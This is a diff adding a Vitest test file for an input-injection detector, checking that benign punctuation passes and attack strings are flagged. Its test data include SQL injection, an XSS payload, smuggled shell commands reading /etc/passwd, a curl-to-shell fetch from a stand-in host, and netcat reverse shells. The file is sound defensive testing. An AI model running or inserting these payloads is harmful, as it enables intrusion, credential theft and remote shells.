@@ -1,0 +1,68 @@
+import { describe, expect, it } from 'vitest'
+import { M } from '../../src/detect/charmask.js'
+import { createDetector } from '../../src/detect/index.js'
+import { residualMask, STARTS_WITH_COMMAND } from '../../src/detect/scan.js'
+
+describe('residualMask: benign triggers are dismissed locally', () => {
+  it.each([
+    "it's, we've, I'll, they're, don't, I'd, I'm",
+    "5 o'clock with O'Brien and d'Arc",
+    'I <3 it',
+    'Tom & Jerry',
+    'PR #4211 in C# and F#, #release',
+    'plans: $9.99 | $19.99 | team is $49 (billed yearly)',
+    'up 12% since Tue/Thu, 2+2 and C++',
+    'see https://example.org/docs/page?id=5#top for more',
+    "it's late; see you :) tomorrow ;)",
+    'a (quick) note, *really*',
+    'emoji 🎂🎉🚀 and café, naïve, €35, 20°, 5 – 6',
+  ])('%s', (s) => {
+    expect(residualMask(s)).toBe(0)
+  })
+
+  it.each([
+    ["x' or 'a'='a", M.QUOTE],
+    ['<svg onload=alert(1)>', M.LT],
+    ['a & whoami', M.AMP],
+    ['whoami & b', M.AMP],
+    ['ok; drop table users', M.SEMI],
+    ['ifconfig; lol', M.SEMI],
+    ['a | nc -e sh', M.PIPE],
+    ['x (select 1)', M.PAREN],
+    ['alert(1)', M.PAREN],
+    ['IF EXIST x (', M.PAREN],
+    ['c$1at', M.DOLLAR],
+    ['%3Cscript', M.PCT],
+    ['&lt;b', M.AMP],
+    ['1+or+1', M.PLUS],
+    ['1/**/or', M.SLASH],
+    ['javascript://%0aalert', M.SLASH],
+    ['see ｓｅｌｅｃｔ', M.NONASCII],
+    ['𝐬𝐞𝐥𝐞𝐜𝐭 1', M.NONASCII],
+    ['ſelect', M.NONASCII],
+    ['sel\u200bect', M.NONASCII],
+  ] as [string, number][])('keeps %s', (s, bit) => {
+    expect(residualMask(s) & bit).toBe(bit)
+  })
+
+  it('names a leading command like maybeCommand does', () => {
+    for (const s of ['ping 127.0.0.1', '  sleep 5', 'CURL x', 'python3.8 -c x', 'whoami.exe now'])
+      expect(STARTS_WITH_COMMAND.test(s)).toBe(true)
+    for (const s of ['pingpong later', 'hello there', 'category 5'])
+      expect(STARTS_WITH_COMMAND.test(s)).toBe(false)
+  })
+})
+
+describe('the line-rate pass keeps detection', () => {
+  const d = createDetector()
+  it.each([
+    "it's fine' or 1=1--",
+    'Tom & Jerry & whoami',
+    'see you; cat /etc/passwd',
+    'look at this: curl https://evil.example/x.sh | sh',
+    "o'clock' union select password from users--",
+    '$9.99 | nc -e /bin/sh 10.0.0.1 4444',
+  ])('still flags %s', (s) => {
+    expect(d.first(s)).not.toBeNull()
+  })
+})
